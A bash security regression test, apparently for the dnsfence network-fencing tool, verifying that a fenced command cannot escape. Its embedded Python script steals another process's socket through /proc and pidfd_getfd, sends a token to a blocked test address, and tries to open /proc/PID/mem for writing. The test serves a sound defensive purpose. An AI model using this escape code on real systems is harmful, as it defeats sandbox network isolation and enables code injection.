#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# `dnsfence exec --user USER -- CMD`: CMD must not take a socket from
# USER's processes outside the fence.
#
# exec fences the command by its cgroup, and a socket is matched by the
# cgroup of the process that made it, so a socket made outside is not
# fenced (docs/security.md says so for one *passed* in). The command
# needs nobody's help to get one: it runs as USER, and every other
# process of USER in the namespace (the shell exec was started from, an
# editor, a language server) is its to inspect: /proc/PID/fd lists their
# sockets, pidfd_getfd(2) copies one (same uid, ptrace access: nothing
# but Yama's ptrace_scope >= 1 refuses it). Here an unfenced process of
# uid 4242 holds an unconnected TCP socket and sleeps; the fenced command
# copies it, connects it to a blocked address (198.18.1.11:80, never
# answered) and sends a request with a token that the server logs.
#
# The same access opens the victim's /proc/PID/mem for writing (code into
# the unfenced process): the command must not get that either.
#
# Controls: uid 4242 reaches that address unfenced, and opens the
# victim's memory unfenced; the command's own socket is refused. The attack gets out when the token reaches the
# server.
source "$(dirname "$0")/lib.sh"
df_exec_lab
USER_ID=4242
cgroot="$DF_CGROOT"
chmod 711 "$DF_TMP" # uid 4242 runs the scripts below from there

df_expect_reaches_unfenced "$USER_ID"
ok "control: uid $USER_ID reaches 198.18.1.11:80 unfenced"

# The victim: uid 4242 outside the fence, one TCP socket, asleep.
cat >"$DF_TMP/victim.py" <<'PY'
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
open(sys.argv[1], "w").write("ready\n")
time.sleep(120)
PY
cat >"$DF_TMP/steal.py" <<'PY'
import ctypes, os, socket, sys
pid, tok = int(sys.argv[1]), sys.argv[2]
own = socket.socket()
own.settimeout(3)
try:
    own.connect(("198.18.1.11", 80))
    print("own: connected")
except OSError as e:
    print("own: refused (%s)" % e)
# /proc/PID/mem open for writing: code into the unfenced process
try:
    os.close(os.open("/proc/%d/mem" % pid, os.O_RDWR))
    print("mem: opened")
except OSError as e:
    print("mem: refused (%s)" % e)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
pfd = os.pidfd_open(pid)
for name in sorted(os.listdir("/proc/%d/fd" % pid), key=int):
    try:
        if not os.readlink("/proc/%d/fd/%s" % (pid, name)).startswith("socket:"):
            continue
    except OSError:
        continue
    fd = libc.syscall(438, pfd, int(name), 0)  # pidfd_getfd
    if fd < 0:
        print("pidfd_getfd %s: %s" % (name, os.strerror(ctypes.get_errno())))
        continue
    s = socket.socket(fileno=fd)
    if s.family != socket.AF_INET or s.type != socket.SOCK_STREAM:
        continue
    s.settimeout(3)
    try:
        s.connect(("198.18.1.11", 80))
        s.sendall(b"GET /stolen-%s HTTP/1.0\r\n\r\n" % tok.encode())
        print("stolen fd %s: sent, got %r" % (name, s.recv(40)))
        sys.exit(0)
    except OSError as e:
        print("stolen fd %s: %s" % (name, e))
sys.exit(1)
PY
: >"$DF_TMP/victim.ready"
chmod 644 "$DF_TMP/victim.py" "$DF_TMP/steal.py"
chmod 666 "$DF_TMP/victim.ready"
df_wl_as "$USER_ID" "$DF_PY" "$DF_TMP/victim.py" "$DF_TMP/victim.ready" &
DF_PIDS+=("$!")
df_poll 50 grep -q ready "$DF_TMP/victim.ready" || fail "the victim process did not start"
victim="$(pgrep -u "$USER_ID" -f "$DF_TMP/victim.py" | head -1)"
[ -n "$victim" ] || fail "no victim pid"

# Control: unfenced, the same uid may open the victim's memory for writing.
df_wl_as "$USER_ID" "$DF_PY" -c 'import os, sys; os.close(os.open("/proc/%s/mem" % sys.argv[1], os.O_RDWR))' "$victim" ||
	fail "control: uid $USER_ID cannot open its own unfenced process's /proc/$victim/mem"
ok "control: unfenced, uid $USER_ID opens /proc/$victim/mem for writing"

st=0
df_wl_cg "$DNSFENCE_BIN" -c "$DF_DNSFENCE_CONF" exec --user "$USER_ID" -- \
	"$DF_PY" "$DF_TMP/steal.py" "$victim" "$$" >"$DF_TMP/exec.out" 2>"$DF_TMP/exec.err" || st=$?
! grep -q "fencing uid" "$DF_TMP/exec.err" || fail "exec fell back to the uid: $(cat "$DF_TMP/exec.err")"
grep -q "^own: refused" "$DF_TMP/exec.out" ||
	fail "control: the fenced command's own socket was not refused: $(cat "$DF_TMP/exec.out" "$DF_TMP/exec.err")"
ok "control: the fenced command's own socket is refused"
grep -q "^mem: refused" "$DF_TMP/exec.out" ||
	fail "the fenced command opened /proc/$victim/mem of uid $USER_ID's unfenced process for writing: $(tr '\n' ' ' <"$DF_TMP/exec.out")"
ok "the fenced command cannot open the unfenced process's memory ($(grep '^mem:' "$DF_TMP/exec.out"))"
sleep 0.5
n="$(df_served "stolen-$$")"
[ "$n" -eq 0 ] || fail "the fenced command copied a socket of uid $USER_ID's unfenced process (pidfd_getfd) and reached 198.18.1.11:80 with it (exit $st: $(tr '\n' ' ' <"$DF_TMP/exec.out"))"
ok "the fenced command cannot use an unfenced process's socket (exit $st: $(tr '\n' ' ' <"$DF_TMP/exec.out"))"
